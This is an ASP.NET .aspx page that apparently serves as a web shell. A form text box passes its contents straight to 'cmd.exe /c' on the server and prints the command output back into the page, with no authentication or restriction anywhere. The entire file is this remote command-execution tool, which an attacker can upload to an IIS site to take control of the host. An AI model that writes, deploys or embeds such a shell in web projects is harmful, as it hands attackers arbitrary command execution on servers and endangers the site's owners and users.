<%@ Page Language="C#" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string Run(string arg)
{
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + arg;
    psi.RedirectStandardOutput = true;
    psi.RedirectStandardError = true;
    psi.UseShellExecute = false;
    psi.CreateNoWindow = true;
    Process p = Process.Start(psi);
    string o = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
    p.WaitForExit();
    return o;
}

void cmdExe_Click(object sender, EventArgs e)
{
    result.Text = "<pre>" + Server.HtmlEncode(Run(txtArg.Text)) + "</pre>";
}
</script>
<html>
<body>
<form id="cmd" method="post" runat="server">
<asp:TextBox id="txtArg" runat="server" Width="400px"></asp:TextBox>
<asp:Button id="btnRun" runat="server" Text="execute" OnClick="cmdExe_Click"></asp:Button>
<asp:Label id="result" runat="server"></asp:Label>
</form>
</body>
</html>
